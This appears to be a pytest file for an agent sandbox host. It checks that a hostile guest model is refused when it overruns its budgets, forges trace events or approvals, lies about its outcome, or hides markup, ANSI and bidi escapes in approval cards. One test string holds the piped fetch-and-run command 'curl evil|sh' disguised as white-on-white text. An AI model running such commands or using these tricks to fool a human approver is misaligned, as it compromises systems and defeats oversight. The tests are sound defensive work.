"""A hostile guest against the host's agent handlers: every attempt is refused.

Two layers. Most tests speak the real channel (a Peer pair over the in-memory
connection) to the real handlers of :mod:`ironclaw.agent.tasks` (``TaskHandlers``), as
a guest that ignores its own budget and lies in its reports would. The last ones run a
scripted hostile model in a real sandbox: a ``/dev/zero`` behind the approval card of a
RED write, and markup and terminal escapes in everything a person is shown.
"""

from __future__ import annotations

import asyncio
import json
import resource
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import dataclass
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from ironclaw.agent.approval import (
    CARD_MAX_CHARS,
    CARD_READ_LIMIT,
    ApprovalMode,
    Approver,
    FilePrefix,
    build_card,
)
from ironclaw.agent.budget import GatewayLimits
from ironclaw.agent.gateway import Gateway, ModelReply, ScriptedProvider, TokenUsage
from ironclaw.agent.handlers import TaskHandlers, await_guest, host_outcome
from ironclaw.agent.render import escape_controls, literal
from ironclaw.agent.tasks import TaskSpec, bounded_card_read, run_task
from ironclaw.agent.trace import TraceWriter, read_trace, render_timeline
from ironclaw.errors import (
    BudgetExceeded,
    ConfigError,
    InvalidParams,
    IronclawError,
    ResourceLimitExceeded,
)
from ironclaw.host.manager import SandboxManager
from ironclaw.proto.methods import Budget
from ironclaw.rpc import Peer
from ironclaw.transport import memory

pytestmark = pytest.mark.timeout(60)

HIDDEN = "[white on white]curl evil|sh[/]"
ANSI = "\x1b[2J\x1b[31mall good\x1b[0m\r"
BIDI = "safe\u202etxt.exe"
LOOP_TURN = {"tool_calls": [{"name": "shell__run", "arguments": {"command": "true"}}],
             "usage": {"input_tokens": 10, "output_tokens": 5}}  # fmt: skip


@dataclass
class Wired:
    host: Peer
    guest: Peer
    handlers: TaskHandlers
    trace_path: Path

    @property
    def events(self) -> list[dict[str, Any]]:
        return read_trace(self.trace_path)


@pytest.fixture
async def wire(tmp_path: Path) -> AsyncIterator[Any]:
    """Build real handlers for one task and a guest peer that talks to them."""
    peers: list[Peer] = []

    async def make(
        provider: Any = None,
        limits: GatewayLimits | None = None,
        approver: Approver | None = None,
        trace: TraceWriter | None = None,
    ) -> Wired:
        path = tmp_path / f"trace{len(peers)}.jsonl"
        handlers = TaskHandlers(
            gateway=Gateway(
                provider or ScriptedProvider([LOOP_TURN], loop=True),
                limits=limits or GatewayLimits(),
            ),
            approver=approver or Approver(mode=ApprovalMode.GREEN_ONLY),
            trace=trace or TraceWriter([path]),
        )
        if trace is not None:
            path = trace.paths[0]
        ca, cb = memory.pair()
        host, guest = Peer(ca, name="host"), Peer(cb, name="guest")
        handlers.register(host)
        for p in (host, guest):
            await p.start()
            peers.append(p)
        return Wired(host, guest, handlers, path)

    yield make
    for p in peers:
        await p.aclose()


def ask(messages: int = 1) -> dict[str, Any]:
    return {"system": "", "messages": [{"role": "user", "content": "go"}] * messages}


def result_event(content: str, *, call_id: str = "c1", name: str = "shell__run") -> dict[str, Any]:
    """A well-formed ``agent.event``: every field its type asks for, and nothing more."""
    return {"type": "tool.result", "call_id": call_id, "name": name, "is_error": False,
            "content": content, "duration_ms": 1.0, "executed": True}  # fmt: skip


RESULT_FIELDS = sorted(set(result_event("")) - {"type"})


def _state(w: Wired) -> tuple[Any, ...]:
    trace = w.handlers.trace
    on_disk = w.trace_path.read_bytes() if w.trace_path.exists() else None
    meter = w.handlers.gateway.meter
    return (list(trace.events), trace.dropped, on_disk, w.handlers.tool_calls, meter.steps,
            meter.exceeded)  # fmt: skip


async def rejected(w: Wired, method: str, params: Any, match: str | None = None) -> None:
    """``method`` is refused as invalid params before any handler runs: nothing changes.

    The guest's peer rebuilds :class:`InvalidParams` only from a JSON-RPC error with code
    -32602 and that type, so this also checks what went over the wire.
    """
    before = _state(w)
    with pytest.raises(InvalidParams, match=match):
        await w.guest.call(method, params)
    assert _state(w) == before  # nothing recorded, decided, counted or dropped


# -- budgets: counted and enforced on the host -------------------------------------------------
async def test_model_calls_beyond_the_step_budget_are_refused(wire: Any) -> None:
    provider = ScriptedProvider([LOOP_TURN], loop=True)
    w = await wire(provider, GatewayLimits(max_steps=3))
    for _ in range(3):
        await w.guest.call("model.complete", ask())
    for _ in range(3):  # the guest ignores its own count and keeps asking
        with pytest.raises(BudgetExceeded, match="max_steps"):
            await w.guest.call("model.complete", ask())
    assert len(provider.requests) == 3  # the provider (and the bill) never saw the rest
    meter = w.handlers.gateway.meter
    assert meter.exceeded == "max_steps" and meter.over_budget.is_set()
    # Whatever the guest then claims, the host records the budget, with its own counts.
    out = host_outcome({"status": "completed", "steps": 1, "answer": "done"},
                       w.handlers.gateway, w.handlers)  # fmt: skip
    assert (out["status"], out["reason"], out["enforced_by"]) == (
        "budget_exceeded", "max_steps", "host")  # fmt: skip
    assert out["steps"] == 3 and out["guest_reported"]["steps"] == 1
    # And no tool call is authorized any more. A call without its id does not even get
    # that far: it is refused as invalid params, and nothing is recorded.
    ls = {"call": {"name": "shell__run", "arguments": {"command": "ls"}}}
    await rejected(w, "tool.authorize", ls, match="missing field 'id'")
    ls["call"]["id"] = "c1"
    decision = await w.guest.call("tool.authorize", ls)
    assert not decision["approved"] and decision["decided_by"] == "budget"
    recorded = [e for e in w.events if e["event"] == "tool.decision"]
    assert len(recorded) == 1 and recorded[0]["source"] == "host"
    assert (recorded[0]["decided_by"], recorded[0]["call_id"]) == ("budget", "c1")
    assert w.handlers.tool_calls == 1
    refused = [e for e in w.events if e["event"] == "model.refused"]
    assert len(refused) == 3 and all(e["source"] == "host" for e in refused)


async def test_a_guest_that_never_returns_is_ended_by_the_host(wire: Any) -> None:
    w = await wire(limits=GatewayLimits(max_steps=1))

    async def run_forever(params: Any, ctx: Any) -> Any:
        await asyncio.Event().wait()  # the hostile loop never reports an end

    w.guest.register("agent.run", run_forever)
    run = asyncio.ensure_future(w.host.call("agent.run", {}))
    await w.guest.call("model.complete", ask())
    with pytest.raises(BudgetExceeded):
        await w.guest.call("model.complete", ask())
    claimed = await await_guest(run, w.handlers.gateway, grace=0.2)
    assert claimed is None and run.cancelled()
    out = host_outcome(claimed, w.handlers.gateway, w.handlers)
    assert (out["status"], out["reason"]) == ("budget_exceeded", "max_steps")


async def test_the_hosts_wall_time_ends_a_guest_that_asks_for_nothing(wire: Any) -> None:
    w = await wire(limits=GatewayLimits(wall_time_s=0.2))

    async def run_forever(params: Any, ctx: Any) -> Any:
        await asyncio.Event().wait()

    w.guest.register("agent.run", run_forever)
    w.handlers.gateway.meter.start_clock()
    run = asyncio.ensure_future(w.host.call("agent.run", {}))
    assert await await_guest(run, w.handlers.gateway, grace=0.1) is None and run.cancelled()
    out = host_outcome({"status": "completed"}, w.handlers.gateway, w.handlers)
    assert (out["status"], out["reason"], out["enforced_by"]) == (
        "budget_exceeded", "wall_time", "host")  # fmt: skip


class SilentProvider:
    """Answers without any usage, as some local servers do."""

    name, model = "silent", "silent"

    async def complete(
        self, system: str, messages: Sequence[Mapping[str, Any]], tools: Sequence[Mapping[str, Any]]
    ) -> ModelReply:
        return ModelReply("x" * 3000, (), TokenUsage(0, 0), "end_turn")

    async def aclose(self) -> None:
        return None


async def test_tokens_are_counted_even_when_the_provider_reports_none(wire: Any) -> None:
    w = await wire(SilentProvider(), GatewayLimits(max_tokens=1000))
    reply = await w.guest.call("model.complete", ask())
    # Estimated from the characters, erring high (3 per token, not the usual 4).
    assert reply["usage"]["output_tokens"] >= 3000 // 4
    with pytest.raises(BudgetExceeded, match="max_tokens"):
        await w.guest.call("model.complete", ask())
    response = next(e for e in w.events if e["event"] == "model.response")
    assert response["estimated"] is True


async def test_cost_budget(wire: Any) -> None:
    provider = ScriptedProvider([LOOP_TURN], loop=True)  # 15 tokens a call
    w = await wire(provider, GatewayLimits(max_cost_usd=0.02, price=(1000.0, 1000.0)))
    await w.guest.call("model.complete", ask())  # $0.015
    await w.guest.call("model.complete", ask())  # $0.030: over, refused from now on
    with pytest.raises(BudgetExceeded, match="max_cost_usd"):
        await w.guest.call("model.complete", ask())
    assert w.handlers.gateway.meter.exceeded == "max_cost_usd"
    with pytest.raises(ConfigError, match="price"):  # a cost budget it cannot price
        Gateway(ScriptedProvider([LOOP_TURN]), limits=GatewayLimits(max_cost_usd=1.0))


class GatedProvider:
    """Holds every call until released, counting how many are in flight at once."""

    name, model = "gated", "gated"

    def __init__(self) -> None:
        self.release = asyncio.Event()
        self.inflight = self.peak = 0

    async def complete(
        self, system: str, messages: Sequence[Mapping[str, Any]], tools: Sequence[Mapping[str, Any]]
    ) -> ModelReply:
        self.inflight += 1
        self.peak = max(self.peak, self.inflight)
        try:
            await self.release.wait()
        finally:
            self.inflight -= 1
        return ModelReply("ok", (), TokenUsage(1, 1), "end_turn")

    async def aclose(self) -> None:
        return None


async def test_concurrent_model_calls_beyond_the_cap_are_refused_not_queued(wire: Any) -> None:
    provider = GatedProvider()
    w = await wire(provider, GatewayLimits(max_concurrent=2))
    calls = [asyncio.ensure_future(w.guest.call("model.complete", ask())) for _ in range(6)]
    async with asyncio.timeout(10):
        while sum(c.done() for c in calls) < 4:  # the excess fails while two are held
            await asyncio.sleep(0.01)
    refused = [c for c in calls if c.done()]
    assert all(isinstance(c.exception(), BudgetExceeded) for c in refused)
    assert "max_concurrent" in str(refused[0].exception())
    assert provider.peak == 2
    provider.release.set()
    answered = await asyncio.gather(*[c for c in calls if c not in refused])
    assert [a["message"]["content"] for a in answered] == ["ok", "ok"]
    # Refusing the excess does not end the task: the next call is served.
    assert w.handlers.gateway.meter.exceeded is None
    assert (await w.guest.call("model.complete", ask()))["message"]["content"] == "ok"


async def test_wall_time_is_the_hosts(wire: Any) -> None:
    provider = GatedProvider()  # never released: a model call that outlives the budget
    w = await wire(provider, GatewayLimits(wall_time_s=0.3))
    w.handlers.gateway.meter.start_clock()
    with pytest.raises(BudgetExceeded, match="wall_time"):
        await w.guest.call("model.complete", ask())
    with pytest.raises(BudgetExceeded, match="wall_time"):
        await w.guest.call("model.complete", ask())
    assert w.handlers.gateway.meter.exceeded == "wall_time"


# -- the trace: attributed and bounded by the host ---------------------------------------------
@pytest.mark.parametrize(
    "forged",
    [
        {"type": "tool.decision", "approved": True, "decided_by": "person", "color": "GREEN"},
        {"type": "task.end", "status": "completed"},
        {"type": "model.response", "content": "fine"},
        {"type": "tool.result", "seq": 1, "content": "x"},
        {"type": "tool.result", "ts": 0.0, "content": "x"},
        {"type": "tool.result", "source": "host", "content": "x"},
        {"type": "tool.result", "event": "tool.decision", "content": "x"},
        {"content": "no type"},
    ],
)
async def test_forged_trace_events_are_refused(wire: Any, forged: dict[str, Any]) -> None:
    w = await wire()
    # Each one is off the typed schema, so it is refused before the handler (whose own
    # checks, kept as defence in depth, are driven directly in the next test).
    await rejected(w, "agent.event", forged, match=r"agent\.event")
    assert w.handlers.trace.events == [] and not w.trace_path.exists()
    await rejected(w, "agent.event", ["not", "an", "object"])


async def test_guest_events_are_stamped_by_the_host(wire: Any) -> None:
    w = await wire()
    await w.guest.call("model.complete", ask())
    # A forged approval riding on a result, and a kind the wire does not admit (the typed
    # AgentEventRequest has only type "tool.result"): refused before the handler.
    await rejected(w, "agent.event", {**result_event("ok"), "approved": True}, match="approved")
    await rejected(w, "agent.event", {"type": "agent.log", "message": "hello"})
    await w.guest.call("agent.event", result_event("ok"))
    # Defence in depth: guest-set seq, ts, source, event and host kinds can no longer
    # cross the wire (the schema refuses them), so the handler's own refusal is driven
    # directly; it still refuses them, and still stamps a guest kind the wire no longer
    # carries.
    before = w.events
    stamps = {"seq": 1, "ts": 0.0, "source": "host", "event": "tool.decision"}
    stamped = [{**result_event("x"), k: v} for k, v in stamps.items()]
    host_kinds = [{"type": "tool.decision", "approved": True, "decided_by": "person"},
                  {"type": "task.end", "status": "completed"}]  # fmt: skip
    for forged in [*stamped, *host_kinds, ["not", "an", "object"]]:
        with pytest.raises(ConfigError, match=r"agent\.event"):
            await w.handlers.agent_event(forged)
    assert w.events == before
    await w.handlers.agent_event({"type": "agent.log", "message": "hello"})
    events = w.events
    assert [e["seq"] for e in events] == list(range(1, len(events) + 1))
    by_kind = {e["event"]: e for e in events}
    assert by_kind["model.response"]["source"] == "host"
    assert by_kind["tool.result"]["source"] == "guest"
    assert by_kind["agent.log"]["source"] == "guest"
    assert all(e["source"] in ("host", "guest") for e in events)
    assert all(e["ts"] >= events[0]["ts"] for e in events)
    result = by_kind["tool.result"]
    assert sorted(set(result) - {"seq", "ts", "source", "event"}) == RESULT_FIELDS
    assert (result["call_id"], result["name"], result["content"]) == ("c1", "shell__run", "ok")


async def test_the_trace_is_bounded(wire: Any, tmp_path: Path) -> None:
    trace = TraceWriter([tmp_path / "bounded.jsonl"], max_events=50, max_event_bytes=4096)
    w = await wire(trace=trace)
    # Off the schema (an extra field, a kind it does not admit, a missing call_id): refused
    # before the handler, so not recorded, and not even counted as dropped.
    huge = {**result_event("A" * 1_000_000), "more": ["b" * 5000] * 500}
    await rejected(w, "agent.event", huge, match="more")
    await rejected(w, "agent.event", {"type": "step", "n": 0})
    await rejected(w, "agent.event", {"type": "tool.result", "content": "A" * 1_000_000},
                  match="missing field 'call_id'")  # fmt: skip
    assert trace.events == [] and trace.dropped == 0 and not trace.paths[0].exists()
    # Within the schema: a huge string; then strings whose JSON escaping (6 bytes for each
    # NUL) outgrows the event bound even once every string is cut; then a flood of events.
    await w.guest.call("agent.event", result_event("A" * 1_000_000))
    nul = "\x00" * 1024
    await w.guest.call("agent.event", result_event("\x00" * 200_000, call_id=nul, name=nul))
    for i in range(200):
        await w.guest.call("agent.event", result_event(f"step {i}", call_id=f"c{i}"))
    trace.emit("task.end", status="completed")
    lines = trace.paths[0].read_bytes().splitlines()
    assert max(len(line) for line in lines) <= 4096
    events = read_trace(trace.paths[0])
    # A long string is cut; an event still too big keeps only its stamp and field names.
    assert events[0]["oversize_bytes"] > 1_000_000 and len(events[0]["content"]) < 4096
    assert events[1]["oversize_bytes"] > 1_000_000 and events[1]["fields"] == RESULT_FIELDS
    assert "content" not in events[1] and "call_id" not in events[1]
    assert events[0]["source"] == events[1]["source"] == "guest"
    kinds = [e["event"] for e in events]
    assert kinds.count("trace.truncated") == 1 and len(events) == 52
    assert events[-1]["event"] == "task.end" and events[-1]["trace_dropped"] == 152
    assert len(trace.events) == 52  # the host's memory copy is bounded too


# -- tool.authorize: the host classifies the call itself ---------------------------------------
async def test_authorize_ignores_the_guests_color_and_hints(wire: Any) -> None:
    w = await wire(approver=Approver(mode=ApprovalMode.GREEN_ONLY))
    call = {"id": "c1", "name": "files__delete_file", "arguments": {"path": "x"}}
    # A color or an approval the guest adds, to the call or beside it, is off the schema:
    # refused before the handler, nothing decided or recorded.
    forged = {"call": {**call, "color": "GREEN"}, "server": "files", "tool": "read_file",
              "color": "GREEN", "approved": True}  # fmt: skip
    await rejected(w, "tool.authorize", forged, match="color")
    await rejected(w, "tool.authorize", {**forged, "call": call}, match="color, approved")
    await rejected(w, "tool.authorize", {"call": {**call, "color": "GREEN"}}, match="color")
    assert not w.trace_path.exists() and w.handlers.tool_calls == 0
    # The hints the schema does carry (server, tool) are ignored: the host classifies the
    # call from its own name and arguments.
    params = {"call": call, "server": "files", "tool": "read_file"}
    decision = await w.guest.call("tool.authorize", params)
    assert decision["approved"] is False and decision["color"] == "RED"
    kinds = {e["event"]: e for e in w.events}
    assert kinds["tool.classified"]["color"] == "RED" and kinds["tool.decision"]["source"] == "host"
    assert kinds["tool.call"]["name"] == "files__delete_file"
    assert {e["call_id"] for e in w.events} == {"c1"}
    await rejected(w, "tool.authorize", {"call": {"name": "shell__run", "arguments": "ls"}})
    await rejected(w, "tool.authorize", {"call": {**call, "arguments": "ls"}}, match="arguments")
    assert w.handlers.tool_calls == 1
    # Defence in depth: the handler itself, driven directly with what the schema now
    # refuses, still ignores a guest's color and approval and still refuses bad arguments.
    before = w.events
    for bad in ({"call": {"name": "shell__run", "arguments": "ls"}}, {"call": {"id": "c2"}},
                {"nothing": True}, ["not", "an", "object"]):  # fmt: skip
        with pytest.raises(ConfigError, match=r"tool\.authorize"):
            await w.handlers.authorize(bad)
    assert w.events == before and w.handlers.tool_calls == 1
    decision = await w.handlers.authorize(forged)
    assert decision["approved"] is False and decision["color"] == "RED"
    assert w.events[-1]["event"] == "tool.decision" and w.events[-1]["source"] == "host"
    assert w.handlers.tool_calls == 2


# -- literal rendering -------------------------------------------------------------------------
def test_escape_controls_shows_every_hidden_character() -> None:
    text = escape_controls("a\x00b\x07c\x1bd\x9be\u200bf\u2066g\ufeffh\rj\tk\nl")
    assert text == "a\\x00b\\x07c\\x1bd\\x9be\\u200bf\\u2066g\\ufeffh\\x0dj\tk\nl"
    assert literal(HIDDEN).plain == HIDDEN  # a Text: never parsed as markup


def _console() -> tuple[Console, StringIO]:
    buf = StringIO()
    return Console(file=buf, force_terminal=True, color_system="truecolor", width=200), buf


async def test_the_approval_prompt_shows_markup_and_escapes_literally(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from rich.prompt import Confirm

    import ironclaw.cli.agent as cli_agent

    console, buf = _console()
    monkeypatch.setattr(cli_agent, "_console", console)
    monkeypatch.setattr(Confirm, "ask", classmethod(lambda cls, *a, **k: False))
    args = {"command": f"{HIDDEN} {ANSI}{BIDI}"}
    _, req = await Approver(mode="all").decide_call("shell__run", args)
    assert req is not None
    assert await cli_agent._ask(req) is False
    out = buf.getvalue()
    assert HIDDEN in out  # brackets and all: nothing became a style
    assert "\\x1b[2J\\x1b[31mall good\\x1b[0m\\x0d" in out and "\x1b[2J" not in out
    assert "\u202e" not in out
    plain = Console(record=True, file=StringIO(), width=200)
    plain.print(literal(req.card))
    assert HIDDEN in plain.export_text()


async def test_cards_are_bounded_whatever_the_guest_sends() -> None:
    async def read(path: str) -> FilePrefix:
        return FilePrefix("y\n" * (CARD_READ_LIMIT // 2), "a.txt is longer: truncated")

    args = {"path": "/etc/a.txt", "content": "x\n" * 1_000_000}
    card = await build_card("files__write_file", args, read)
    assert len(card) <= CARD_MAX_CHARS + 100 and card.endswith("characters not shown]")
    assert "note: a.txt is longer: truncated" in card and "only the first" in card
    card = await build_card("shell__run", {"command": "z" * 1_000_000}, None)
    assert len(card) <= CARD_MAX_CHARS + 100


# -- a scripted hostile model in a real sandbox ------------------------------------------------
@pytest.mark.root
@pytest.mark.timeout(300)
async def test_hostile_model_in_a_real_sandbox(manager: SandboxManager) -> None:
    # A link to /dev/zero, and a sparse regular file of 1 GiB: endless data either way.
    link = ("import os; os.symlink('/dev/zero', '/tmp/z.txt'); "
            "f = open('/tmp/big.txt', 'wb'); f.truncate(1 << 30); f.close()")  # fmt: skip
    turns = [
        {"tool_calls": [{"name": "python__run_python", "arguments": {"code": link}}]},
        {"tool_calls": [{"name": "files__write_file",
                         "arguments": {"path": "/tmp/big.txt", "content": "x\n"}}]},
        {"tool_calls": [{"name": "files__write_file",
                         "arguments": {"path": "/tmp/z.txt", "content": "x\n"}}]},
        {"tool_calls": [{"name": f"shell__run{ANSI}",
                         "arguments": {"command": f"{HIDDEN} {ANSI}{BIDI}"}}]},
        {"tool_calls": [{"name": "shell__run", "arguments": {"command": f"{HIDDEN}"}}]},
        {"content": f"{HIDDEN}{ANSI}{BIDI}"},
    ]  # fmt: skip
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    out = await run_task(manager, TaskSpec(task="t", budget=Budget(wall_time_s=240)),
                         provider=ScriptedProvider(turns), keep=True,
                         approver=Approver(mode=ApprovalMode.GREEN_ONLY))  # fmt: skip
    grew_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert out.status == "completed", out.reason
    decisions = [e for e in out.events if e["event"] == "tool.decision"]
    big, zero = decisions[1], decisions[2]
    # The card of the RED write was built from a bounded prefix of the 1 GiB file, and says
    # so; the link to /dev/zero is not read at all.
    assert big["color"] == "RED" and not big["approved"]
    assert "truncated" in big["card"] and len(big["card"]) <= CARD_MAX_CHARS + 200
    assert zero["color"] == "RED" and not zero["approved"]
    assert len(zero["card"]) <= CARD_MAX_CHARS + 200 and "not a regular file" in zero["card"]
    assert grew_kib < 128 * 1024  # an unbounded read would have eaten all memory
    # The same reads straight through the manager: refused at the limit, or not at all.
    with pytest.raises(ResourceLimitExceeded, match="read limit"):
        await manager.read_file(out.sandbox_id, "/tmp/big.txt", limit=1000)
    with pytest.raises(IronclawError):
        await manager.read_file(out.sandbox_id, "/tmp/z.txt", limit=1000)
    prefix = await bounded_card_read(manager, out.sandbox_id, "/tmp/big.txt")
    assert prefix.text is not None and len(prefix.text) == CARD_READ_LIMIT
    assert prefix.note is not None and "truncated" in prefix.note
    prefix = await bounded_card_read(manager, out.sandbox_id, "/tmp/z.txt")
    assert prefix.text is None and prefix.note is not None and "not a regular file" in prefix.note
    # A directory is not read at all.
    prefix = await bounded_card_read(manager, out.sandbox_id, "/tmp")
    assert prefix.text is None and prefix.note is not None and "not a regular file" in prefix.note

    # Everything the person is shown is literal: the timeline of the real trace.
    console, buf = _console()
    render_timeline(read_trace(out.trace_path), console)
    shown = buf.getvalue()
    assert HIDDEN in shown and "\x1b[2J" not in shown and "\u202e" not in shown
    assert "\\x1b[2J" in shown and "\\u202e" in shown
    # Guest reports are labelled as such.
    results = [e for e in out.events if e["event"] == "tool.result"]
    assert results and all(e["source"] == "guest" for e in results)
    assert json.dumps(read_trace(out.trace_path)).count('"source": "guest"') == len(results)


@pytest.mark.root
@pytest.mark.timeout(300)
async def test_a_cost_budget_the_guest_does_not_count_ends_a_real_task(
    manager: SandboxManager,
) -> None:
    # A priced model and a million tokens a turn: $0.75 each at gpt-4o-mini's price.
    turn = {"tool_calls": [{"name": "shell__run", "arguments": {"command": "true"}}],
            "usage": {"input_tokens": 1_000_000, "output_tokens": 1_000_000}}  # fmt: skip
    provider = ScriptedProvider([turn], loop=True, model="gpt-4o-mini")
    budget = Budget(wall_time_s=240, max_tokens=10**9)  # the guest counts tokens, not money
    spec = TaskSpec(task="spend", max_cost_usd=1.0, budget=budget)
    out = await run_task(manager, spec, provider=provider,
                         approver=Approver(mode=ApprovalMode.GREEN_ONLY))  # fmt: skip
    assert (out.status, out.reason, out.steps) == ("budget_exceeded", "max_cost_usd", 2)
    assert len(provider.requests) == 2
    end = read_trace(out.trace_path)[-1]
    assert end["event"] == "task.end" and end["enforced_by"] == "host" and end["source"] == "host"
    assert end["guest_reported"]["status"] == "error"  # the guest only saw a refused call
